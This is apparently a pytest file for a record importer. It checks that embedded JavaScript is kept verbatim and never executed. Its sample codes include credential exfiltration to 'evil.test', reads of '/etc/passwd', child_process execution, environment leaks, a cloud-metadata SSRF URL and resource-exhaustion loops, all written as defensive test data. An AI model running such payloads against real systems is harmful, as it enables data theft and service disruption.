"""A record may come from anybody: its code is read and never run, however much it would do, take or reach for."""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any, NoReturn

import pytest

from connection_wizard.viasocket.importing import read_record
from tests.viasocket.test_importing import HAND

TEN = "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10]"


def sending(data: str) -> str:
    return f"return (await axios.post('https://acme.test/token', {data})).data;"


CODES = {
    "a loop without an end": "while (true) {}\n" + sending("{}"),
    "a loop that sends": "for (;;) { await axios.post('https://acme.test/token') }",
    "a loop of a thousand million": "let s = ''; for (let i = 0; i < 1e9; i++) { s += 'x' }\n" + sending("{ s }"),
    "loops in loops": "let s = ''; " + f"for (const a of {TEN}) " * 10 + "{ s += a }\n" + sending("{ s }"),
    "a text of a gigabyte": "const s = 'x'.repeat(1e9);\n" + sending("{ s }"),
    "a list of a thousand million": "const s = new Array(1e9).fill('x').join('');\n" + sending("{ s }"),
    "a text that doubles": "let s = 'x';\n" + "s = `${s}${s}`;\n" * 60 + sending("{ s }"),
    "an unknown that doubles": "let s = context.authData.a;\n" + "s = s + s;\n" * 60 + sending("{ s }"),
    "a list that doubles": "let s = ['x'];\n" + "s = [...s, ...s];\n" * 60 + sending("{ s }"),
    "two ways, forty times": "let a = '';\n"
    + "".join(f"a += context.authData.f{i} ? '1' : '2';\n" for i in range(40))
    + sending("{ a }"),
    "functions that call each other": "function f(x) { return g(x) + g(x) }\nfunction g(x) { return f(x) + f(x) }\n"
    + sending("{ a: f(1) }"),
    "functions that double": "const f0 = (x) => x;\n"
    + "".join(f"const f{i + 1} = (x) => f{i}(x) + f{i}(x);\n" for i in range(40))
    + sending("{ a: f40('x') }"),
    "a pattern that backtracks": f"const a = /(a+)+$/.test('{'a' * 60}!');\n" + sending("{ a }"),
    "a number without an end": "const a = 10 ** 10 ** 10;\n" + sending("{ a }"),
    "blocks in blocks": "if (1) {" * 3000 + sending("{}") + "}" * 3000,
    "an import": "import fs from 'fs';\n" + sending("{ a: fs.readFileSync('/etc/passwd') }"),
    "an import on the way": "const fs = await import('fs');\n" + sending("{ a: fs.readFileSync('/etc/passwd') }"),
    "a program": "const { execSync } = require('child_process');\n" + sending("{ a: execSync('id').toString() }"),
    "the environment": sending("{ a: process.env.HOME }"),
    "an end": "process.exit(1);\n" + sending("{}"),
    "a constructor": sending("{ a: this.constructor.constructor('return process')().env }"),
    "eval": "eval('while (1) {}');\n" + sending("{}"),
    "another host beside": "await axios.post('https://evil.test/', context.authData);\n" + sending("{}"),
}


@contextmanager
def nothing_goes_out() -> Iterator[None]:
    def refused(*_: Any, **__: Any) -> NoReturn:
        raise AssertionError("the code of a record was run")

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(socket, "socket", refused)
        patched.setattr(subprocess, "Popen", refused)
        yield


@pytest.mark.parametrize("name", CODES)
def test_code_that_would_do_harm_is_kept_as_it_is_and_not_run(name: str) -> None:
    record = HAND | {"accesstokencode": json.dumps({"source": CODES[name]})}
    with nothing_goes_out():
        imported = read_record(json.dumps(record))
    assert imported.draft.get("access_token", "snippet") == CODES[name]
    assert [found.step for found in imported.repairs if found.code == "record-own-code"][:1] == [5]


def test_code_that_asks_another_host_is_read_as_what_it_sends_and_sends_nothing() -> None:
    """Who looks at the step sees the address; a run asks before it goes to this computer or its network."""
    code = "return (await axios.get('http://169.254.169.254/latest/meta-data/')).data;"
    with nothing_goes_out():
        draft = read_record(json.dumps(HAND | {"testcode": json.dumps({"source": code})})).draft
    assert draft.get("test_call", "url") == "http://169.254.169.254/latest/meta-data/"
    assert "169.254.169.254" not in draft.get("whitelist")
